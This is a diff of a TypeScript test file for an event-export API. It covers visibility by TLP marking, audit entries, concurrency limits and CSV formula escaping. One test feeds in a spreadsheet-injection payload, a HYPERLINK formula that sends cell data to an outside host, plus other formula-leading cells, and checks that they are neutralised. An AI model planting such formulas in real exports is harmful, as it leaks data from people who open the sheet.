@@ -5,7 +5,7 @@ import * as z from 'zod';
 import { auditEntry } from '@/db/model/access/account';
 import { event } from '@/db/model/event/event';
 import type { Person } from '../../../support/people';
-import { expect, type Office, test } from '../office';
+import { expect, type Team, test } from '../team';
 
 const exported = z.strictObject({ items: z.array(event) });
 const entries = z.looseObject({ items: z.array(auditEntry) });
@@ -16,40 +16,40 @@ function rowsOf(body: unknown): Record<string, string>[] {
   return parse(String(body), { columns: true, bom: true, record_delimiter: '\r\n' });
 }
 
-async function exportsIn({ admin }: Office) {
+async function listExports({ admin }: Team) {
   const { items } = entries.parse((await admin.api.get('/api/audit?type=account')).body);
   return items
     .filter(({ what }) => what === 'exported')
     .map(({ by, details }) => ({ by: by.id, ...details }));
 }
 
-/** More than the sockets on the way take at once, so that the server has to wait for its reader. */
-async function logMuch(office: Office, author: Person): Promise<void> {
+/** Logs more than socket buffers hold, so that an export has to wait for its reader. */
+async function logManyEvents(team: Team, author: Person): Promise<void> {
   const summary = 'A long report. '.repeat(1_300);
   const logging = Array.from({ length: 450 }, (_, n) =>
-    office.log(author, `Report ${n}`, { summary, tlp: 'green' }),
+    team.log(author, `Report ${n}`, { summary, tlp: 'green' }),
   );
   await Promise.all(logging);
 }
 
-/** The answer to somebody who reads nothing of it yet. */
-async function unread(office: Office, { cookie }: Person): Promise<IncomingMessage> {
-  const request = get(new URL(records, office.url), { headers: { cookie }, agent: false });
+/** Starts an export without reading its body. */
+async function startExport(team: Team, { cookie }: Person): Promise<IncomingMessage> {
+  const request = get(new URL(records, team.url), { headers: { cookie }, agent: false });
   const [answer]: IncomingMessage[] = await once(request, 'response');
   if (!answer) throw new Error('There was no answer');
   return answer;
 }
 
-test('an export holds what its reader may see under the filter, each record once and with its marking', async ({
-  office,
+test('an export contains each matching event that its reader may see once, with its marking', async ({
+  team,
 }) => {
-  const { admin } = office;
-  const reader = await office.join({ role: 'viewer', clearance: 'green' });
-  for (let n = 0; n < 230; n += 1) await office.log(admin, `Report ${n}`, { tlp: n % 2 ? 'green' : 'clear' });
-  await office.log(admin, 'Report that is hidden', { tlp: 'amber' });
-  await office.log(admin, 'Report for others', { tlp: 'red', recipients: [admin.id] });
-  await office.log(admin, 'Report by name', { tlp: 'red', recipients: [admin.id, reader.id] });
-  await office.log(admin, 'Of another country', {
+  const { admin } = team;
+  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
+  for (let n = 0; n < 230; n += 1) await team.log(admin, `Report ${n}`, { tlp: n % 2 ? 'green' : 'clear' });
+  await team.log(admin, 'Report that is hidden', { tlp: 'amber' });
+  await team.log(admin, 'Report for others', { tlp: 'red', recipients: [admin.id] });
+  await team.log(admin, 'Report by name', { tlp: 'red', recipients: [admin.id, reader.id] });
+  await team.log(admin, 'Of another country', {
     tlp: 'green',
     targets: [{ country: 'CN', type: 'embassy' }],
   });
@@ -72,10 +72,10 @@ test('an export holds what its reader may see under the filter, each record once
   expect((await reader.api.get(`${records}&targeted=VA`)).body).toEqual({ items: [] });
 });
 
-test('what was logged is text to whoever opens the sheet, and no formula', async ({ office }) => {
-  const { admin } = office;
+test('cells of an exported sheet are text, never formulas', async ({ team }) => {
+  const { admin } = team;
   const title = '=HYPERLINK("https://example.org/?"&A1,"Посольство, "" kapı")';
-  await office.log(admin, title, {
+  await team.log(admin, title, {
     summary: '+1\n@SUM(1)',
     location: { country: 'AF', city: '-2+3', place: '\tcmd' },
     tags: ['@x'],
@@ -87,45 +87,45 @@ test('what was logged is text to whoever opens the sheet, and no formula', async
   expect(row).toMatchObject({ title: `'${title}`, summary: "'+1\n'@SUM(1)", city: "'-2+3", tags: "'@x" });
 });
 
-test('every export is entered in the audit with its filter, whoever makes it; what is refused is none', async ({
-  office,
+test('each export by a person or a key is audited with its filter; refused requests are not', async ({
+  team,
 }) => {
-  const reader = await office.join({ role: 'viewer', clearance: 'green' });
-  const { api: program, id } = await office.keyOf(reader);
+  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
+  const { api: program, id } = await team.createKey(reader);
   expect((await reader.api.get(`${sheet}&targeted=RU,PK&q=letter`)).status).toBe(200);
   expect((await program.get(records)).status).toBe(200);
   for (const path of ['/api/events/export', `${records}&targeted=XX`, `${records}&limit=5`])
     expect((await reader.api.get(path)).status, path).toBe(422);
   expect((await reader.api.call('HEAD', records)).status).toBe(405);
-  const nobody = await fetch(new URL(records, office.url));
+  const nobody = await fetch(new URL(records, team.url));
   expect(nobody.status).toBe(401);
-  expect(await exportsIn(office)).toEqual([
+  expect(await listExports(team)).toEqual([
     { by: id, format: 'json', filter: null },
     { by: reader.id, format: 'csv', filter: 'targeted=RU%2CPK&q=letter' },
   ]);
 });
 
-test('a reader has one export at a time, and whoever goes makes room for his next', async ({ office }) => {
-  await logMuch(office, office.admin);
-  const answer = await unread(office, office.admin);
-  const second = await office.admin.api.get(records);
+test('a reader has one export at a time, and may start another after an abort', async ({ team }) => {
+  await logManyEvents(team, team.admin);
+  const answer = await startExport(team, team.admin);
+  const second = await team.admin.api.get(records);
   expect(second).toMatchObject({ status: 429, body: { detail: expect.stringContaining('in progress') } });
-  expect((await (await office.join()).api.get(records)).status).toBe(200);
+  expect((await (await team.createMember()).api.get(records)).status).toBe(200);
   answer.destroy();
-  await expect.poll(async () => (await office.admin.api.get(records)).status).toBe(200);
+  await expect.poll(async () => (await team.admin.api.get(records)).status).toBe(200);
 });
 
-test('an export ends with the rights of its reader, and is not taken for whole', async ({ office }) => {
-  await logMuch(office, office.admin);
-  const reader = await office.join({ role: 'viewer', clearance: 'green' });
-  const answer = await unread(office, reader);
-  expect((await office.grant(reader, { isSuspended: true })).status).toBe(200);
+test('an export is cut off when its reader’s rights end', async ({ team }) => {
+  await logManyEvents(team, team.admin);
+  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
+  const answer = await startExport(team, reader);
+  expect((await team.updateRights(reader, { isSuspended: true })).status).toBe(200);
   let bytes = 0;
   answer.on('data', (chunk: Buffer) => {
     bytes += chunk.length;
   });
   const ended = await once(answer, 'end').then(
-    () => 'whole',
+    () => 'complete',
     () => 'cut',
   );
   expect(ended).toBe('cut');
